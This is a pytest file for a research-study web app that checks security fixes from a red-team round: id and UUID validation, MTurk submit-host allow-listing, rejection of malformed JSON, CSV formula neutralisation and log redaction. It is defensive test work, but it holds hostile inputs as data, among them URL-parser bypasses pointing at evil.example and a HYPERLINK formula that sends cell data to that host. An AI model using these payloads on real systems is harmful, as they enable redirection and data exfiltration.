"""Input rules from the second red-team round (issue 14): platform ids and answer UUIDs matched whole,
MTurk's framing and submit hosts as two lists, the submit URL rebuilt from the allow-list, a returning
worker's new assignment, 400s (not 500s) for hostile answer bodies, formula cells in CSV, admin no-store."""
from __future__ import annotations

import csv
import io
import json
import re

from sqlalchemy import func, select
from study_fixtures import answer_body, csrf_of, form, page_csrf, post_answer, start_participant
from test_app_admin import login as admin_login_as_alice

MTURK = "assignmentId={a}&hitId=H1&workerId={w}&turkSubmitTo={t}"
SANDBOX = "https%3A%2F%2Fworkersandbox.mturk.com"
LIVE = "https%3A%2F%2Fwww.mturk.com"


def count(app, model, *where):
    from advlegit.study_app.db import db

    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(*where))


def token_of(location: str) -> str:
    return re.search(r"/p/([^/]+)/", location).group(1)


def agree_and_start(client, token):
    assert client.post(f"/p/{token}/consent", data=form(token, choice="agree")).status_code == 303
    assert client.post(f"/p/{token}/instructions", data=form(token)).status_code == 303


def answer_all(client, token, start=0):
    for t in client.get(f"/api/p/{token}/trials").get_json()["trials"][start:]:
        assert post_answer(client, token, answer_body(t["index"], "1")).status_code == 201


# ------------------------------------------------------------------ item 1: frame vs submit hosts

def test_mturk_worker_sites_may_frame_and_submit_hosts_receive_the_form(client, study_id):
    csp = client.get("/").headers["Content-Security-Policy"]
    frame = re.search(r"frame-ancestors ([^;]+)", csp).group(1).split()
    forms = re.search(r"form-action ([^;]+)", csp).group(1).split()
    # Live HITs are shown by worker.mturk.com, the sandbox's by workersandbox.mturk.com ...
    assert frame == ["'self'", "https://worker.mturk.com", "https://workersandbox.mturk.com"]
    # ... and the final form goes to the submit hosts turkSubmitTo names.
    assert forms == ["'self'", "https://www.mturk.com", "https://workersandbox.mturk.com"]


# ------------------------------------------------------------------ item 6: ids matched whole

def test_platform_ids_are_matched_whole_and_in_the_platforms_case(app, client, study_id):
    from advlegit.study_app.models import Participant

    first = client.get(f"/s/{study_id}?PROLIFIC_PID=abc123")
    assert first.status_code == 303
    # A trailing newline is not the same id: refused, nothing stored.
    assert client.get(f"/s/{study_id}?PROLIFIC_PID=abc123%0A").status_code == 400
    assert client.get(f"/s/{study_id}?PROLIFIC_PID=abc123%0D%0A").status_code == 400
    # Another case is the same person (Prolific ids are lowercase hex): the same session resumes.
    again = client.get(f"/s/{study_id}?PROLIFIC_PID=ABC123")
    assert again.status_code == 303 and again.headers["Location"].endswith("/consent")
    assert count(app, Participant) == 1
    # MTurk worker ids are uppercase: w1 and W1 are one worker; "W1\n" is refused.
    assert client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="w1", t=SANDBOX)).status_code == 303
    assert client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="W1", t=SANDBOX)).status_code == 303
    assert client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="W1%0A", t=SANDBOX)).status_code == 400
    assert client.get(f"/s/{study_id}?" + MTURK.format(a="A1%0A", w="W1", t=SANDBOX)).status_code == 400
    assert count(app, Participant) == 2
    from advlegit.study_app.db import db

    with app.app_context():
        ids = sorted(db.session.scalars(select(Participant.platform_pid)))
    assert ids == ["W1", "abc123"]


def test_answer_uuid_with_a_trailing_newline_is_refused_on_every_database(app, client, study_id):
    from advlegit.study_app.models import Response

    token = start_participant(client, study_id)
    body = answer_body(0, "1", "0b9c1f1e-7a55-4c1e-9b1a-2f0c9d7e6a51\n")
    r = post_answer(client, token, body)
    assert r.status_code == 400 and r.get_json()["error"] == "invalid_field"
    assert count(app, Response) == 0
    assert post_answer(client, token, answer_body(0, "1", body["uuid"].strip())).status_code == 201


# ------------------------------------------------------------------ item 5: 400, not 500

def test_times_that_overflow_and_deeply_nested_bodies_are_bad_requests(app, client, study_id):
    from advlegit.study_app.models import Response

    token = start_participant(client, study_id)
    for shown in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00Z"):
        r = post_answer(client, token, {**answer_body(0, "1"), "shown_at": shown})
        assert r.status_code == 400 and r.get_json()["error"] == "invalid_field", (shown, r.data)
    nested = "[" * 2048 + "]" * 2048  # 4 KB
    for body in (nested, '{"uuid": ' + nested + "}"):
        r = client.post(f"/api/p/{token}/responses", data=body, content_type="application/json",
                        headers={"X-CSRF-Token": csrf_of(token)})
        assert r.status_code == 400 and r.get_json()["error"] == "invalid_json", r.data
    assert count(app, Response) == 0
    assert post_answer(client, token, answer_body(0, "1")).status_code == 201


# ------------------------------------------------------------------ item 7: the submit URL

def test_turk_submit_to_must_be_exactly_an_allowed_host(app, client, study_id):
    from advlegit.study_app.models import Participant

    bad = ["https%3A%2F%2Fevil.example%5C%40www.mturk.com", "https%3A%2F%2Fwww.mturk.com%5C%40evil.example",
           "https%3A%2F%2Fwww.mturk.com%40evil.example", "https%3A%2F%2Fuser%40www.mturk.com",
           "https%3A%2F%2Fwww.mturk.com%3A8443", "https%3A%2F%2Fwww.mturk.com%2Fevil",
           "https%3A%2F%2Fwww.mturk.com%3Fx%3D1", "https%3A%2F%2Fwww.mturk.com%09",
           "http%3A%2F%2Fwww.mturk.com", "https%3A%2F%2Fworker.mturk.com"]
    for n, t in enumerate(bad):
        r = client.get(f"/s/{study_id}?" + MTURK.format(a=f"A{n}", w=f"W{n}", t=t))
        assert r.status_code == 400, t
    assert count(app, Participant) == 0
    # Upper case and a trailing slash are the same host: the stored address is the allow-list's spelling.
    r = client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="W1", t="https%3A%2F%2FWWW.MTURK.COM%2F"))
    token = token_of(r.headers["Location"])
    agree_and_start(client, token)
    answer_all(client, token)
    assert client.post(f"/p/{token}/debrief", data=form(token)).status_code == 303
    page = client.get(f"/p/{token}/done").get_data(as_text=True)
    assert 'action="https://www.mturk.com/mturk/externalSubmit"' in page


def test_a_stored_bad_submit_address_is_never_used(app, client, study_id):
    """Rows stored before the stricter check (the backslash trick passed Python's parser) get no form
    that posts anywhere but an allowed host."""
    from advlegit.study_app.db import db
    from advlegit.study_app.models import Participant

    r = client.get(f"/s/{study_id}?" + MTURK.format(a="A1", w="W1", t=LIVE))
    token = token_of(r.headers["Location"])
    agree_and_start(client, token)
    answer_all(client, token)
    assert client.post(f"/p/{token}/debrief", data=form(token)).status_code == 303
    with app.app_context():
        p = db.session.scalar(select(Participant))
        p.platform_json = json.dumps({**p.platform_info, "turkSubmitTo": "https://evil.example\\@www.mturk.com"})
        db.session.commit()
    page = client.get(f"/p/{token}/done")
    assert page.status_code == 400 and "evil" not in page.get_data(as_text=True)


# ------------------------------------------------------------------ item 4: a returning worker

def test_returning_worker_submits_the_new_assignment_to_the_new_host(app, client, study_id):
    from advlegit.study_app.db import db
    from advlegit.study_app.export import iter_rows
    from advlegit.study_app.models import Participant, Study

    r = client.get(f"/s/{study_id}?" + MTURK.format(a="OLDA", w="W7", t=SANDBOX))
    token = token_of(r.headers["Location"])
    agree_and_start(client, token)
    first = client.get(f"/api/p/{token}/trials").get_json()["trials"][0]
    assert post_answer(client, token, answer_body(first["index"], "1")).status_code == 201
    # The worker returned the HIT and accepted it again on the live site: a new assignment, a new host.
    r = client.get(f"/s/{study_id}?" + MTURK.format(a="NEWA", w="W7", t=LIVE))
    assert r.status_code == 303 and r.headers["Location"].endswith("/task")
    token = token_of(r.headers["Location"])
    answer_all(client, token, start=1)
    assert client.post(f"/p/{token}/debrief", data=form(token)).status_code == 303
    page = client.get(f"/p/{token}/done").get_data(as_text=True)
    assert 'action="https://www.mturk.com/mturk/externalSubmit"' in page
    assert 'name="assignmentId" value="NEWA"' in page and "OLDA" not in page
    with app.app_context():
        rows = list(iter_rows(db.session.get(Study, study_id), include_platform_ids=True))
        info = db.session.scalar(select(Participant)).platform_info
    assert {row["platform_session"] for row in rows} == {"NEWA"}
    assert [old["assignmentId"] for old in info["previous"]] == ["OLDA"]  # kept for the record
    # Coming back once more after finishing, from yet another assignment, shows that one's form.
    r = client.get(f"/s/{study_id}?" + MTURK.format(a="THIRD", w="W7", t=SANDBOX))
    token = token_of(r.headers["Location"])
    page = client.get(f"/p/{token}/done").get_data(as_text=True)
    assert 'action="https://workersandbox.mturk.com/mturk/externalSubmit"' in page
    assert 'name="assignmentId" value="THIRD"' in page
    assert count(app, Participant) == 1


# ------------------------------------------------------------------ item 8: formula cells in CSV

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_formula_text_is_neutralised_in_csv_and_raw_in_jsonl(app, client, study_id):
    from advlegit.study_app.db import db
    from advlegit.study_app.export import stream_csv, stream_debrief_csv, stream_jsonl
    from advlegit.study_app.models import Study

    texts = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "an ordinary answer"]
    r = client.get(f"/s/{study_id}?PROLIFIC_PID=-abc")  # a platform id may start with "-"
    token = token_of(r.headers["Location"])
    agree_and_start(client, token)
    answer_all(client, token)
    page = f"/p/{token}/debrief"
    n_questions = len(re.findall(r'name="q\d+"', client.get(page).get_data(as_text=True)))
    assert n_questions >= 1
    answers = {f"q{i}": texts[i % len(texts)] for i in range(n_questions)}
    assert client.post(page, data={**answers, "csrf": page_csrf(client, page)}).status_code == 303
    with app.app_context():
        study = db.session.get(Study, study_id)
        debrief = list(csv.DictReader(io.StringIO("".join(stream_debrief_csv(study)))))
        export = list(csv.DictReader(io.StringIO("".join(stream_csv(study, include_platform_ids=True)))))
        jsonl = [json.loads(line) for line in "".join(stream_jsonl(study, include_platform_ids=True)).splitlines()]
    for row in debrief:
        typed = answers[f"q{row['question_index']}"]
        assert row["answer"] == ("'" + typed if typed[0] in "=+-@\t" else typed)
    assert {row["platform_pid"] for row in export} == {"'-abc"}
    assert {row["platform_pid"] for row in jsonl} == {"-abc"}  # JSON lines keep the value as stored
    assert all(not row[c].startswith(("=", "+", "-", "@")) for row in export for c in row)
    assert {row["rt_ms"] for row in export} == {"812.5"}  # numbers are never touched


def test_formula_cells_in_the_admin_downloads(app, client, study_id):
    token = start_participant(client, study_id, "formula")
    answer_all(client, token)
    page = f"/p/{token}/debrief"
    assert client.post(page, data={"q0": FORMULA, "csrf": page_csrf(client, page)}).status_code == 303
    admin_login_as_alice(app, client)
    body = client.get(f"/admin/studies/{study_id}/debrief.csv").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in body and "\n" + FORMULA not in body and "," + FORMULA not in body


# ------------------------------------------------------------------ item 9: admin no-store

def test_admin_pages_are_never_cached(app, client, study_id):
    assert client.get("/admin/login").headers["Cache-Control"] == "no-store"
    assert client.get("/admin/").headers["Cache-Control"] == "no-store"  # the redirect to the login
    admin_login_as_alice(app, client)
    for path in ("/admin/", f"/admin/studies/{study_id}", f"/admin/studies/{study_id}/debrief.csv",
                 f"/admin/studies/{study_id}/export.csv"):
        r = client.get(path)
        r.get_data()  # read streamed downloads to the end: their database cursor closes with them
        r.close()
        assert r.status_code == 200, path
        assert r.headers["Cache-Control"] == "no-store", path


# ------------------------------------------------------------------ item 13: the access log

def test_production_access_log_holds_no_participant_token_or_platform_id(app, db_url, study_id, tmp_path):
    """The real `advlegit serve --production` (gunicorn) writes its access log without the secret link
    tokens and the Prolific/MTurk ids it served."""
    import os
    import socket
    import subprocess
    import sys
    import time

    import pytest
    import requests

    if not db_url.startswith("sqlite"):
        pytest.skip("the access log does not depend on the database")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "DATABASE_URL": db_url, "ADVLEGIT_INSTANCE": str(tmp_path / "inst"),
           "ADVLEGIT_SECRET_KEY": "k" * 40}
    log = (tmp_path / "access.log").open("wb")
    proc = subprocess.Popen([sys.executable, "-m", "advlegit", "serve", "--production", "--port", str(port),
                             "--workers", "1", "--threads", "2"], env=env, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                requests.get(base + "/healthz", timeout=2)
                break
            except requests.RequestException:
                assert proc.poll() is None, (tmp_path / "access.log").read_text()
                time.sleep(0.1)
        r = requests.get(f"{base}/s/{study_id}?PROLIFIC_PID=pidsecret42&STUDY_ID=S&SESSION_ID=sesssecret7",
                         allow_redirects=False, timeout=10)
        assert r.status_code == 303
        token = token_of(r.headers["Location"])
        assert requests.get(f"{base}/p/{token}/consent", timeout=10).status_code == 200
        assert requests.get(f"{base}/api/p/{token}/state", timeout=10).status_code == 200
        mturk = "assignmentId=asgsecret&hitId=H1&workerId=WKSECRET9&turkSubmitTo=https%3A%2F%2Fwww.mturk.com"
        assert requests.get(f"{base}/s/{study_id}?{mturk}", allow_redirects=False, timeout=10).status_code == 303
    finally:
        proc.terminate()
        proc.wait(20)
        log.close()
    text = (tmp_path / "access.log").read_text()
    assert f"/s/{study_id}?[redacted]" in text and "/p/[redacted]/consent" in text, text
    assert "/api/p/[redacted]/state" in text
    for secret in (token, "pidsecret42", "sesssecret7", "WKSECRET9", "asgsecret"):
        assert secret not in text and secret.lower() not in text, secret


# ------------------------------------------------------------------ item 20: commands print what was asked

def test_study_list_prints_only_the_studies(app, db_url, study_id, tmp_path):
    import os
    import subprocess
    import sys

    import pytest

    if not db_url.startswith("sqlite"):
        pytest.skip("logging does not depend on the database")
    env = {**os.environ, "DATABASE_URL": db_url, "ADVLEGIT_INSTANCE": str(tmp_path / "inst")}
    quiet = subprocess.run([sys.executable, "-m", "advlegit", "study", "list"], env=env,
                           capture_output=True, text=True, timeout=120)
    assert quiet.returncode == 0, quiet.stderr
    assert quiet.stderr == ""  # no "INFO alembic.runtime.plugins: setup plugin ..." lines
    assert [line.split("\t")[0] for line in quiet.stdout.splitlines()] == [study_id]
    loud = subprocess.run([sys.executable, "-m", "advlegit", "-v", "study", "list"], env=env,
                          capture_output=True, text=True, timeout=120)
    assert loud.returncode == 0 and "alembic" in loud.stderr  # library logs on -v
    assert loud.stdout == quiet.stdout
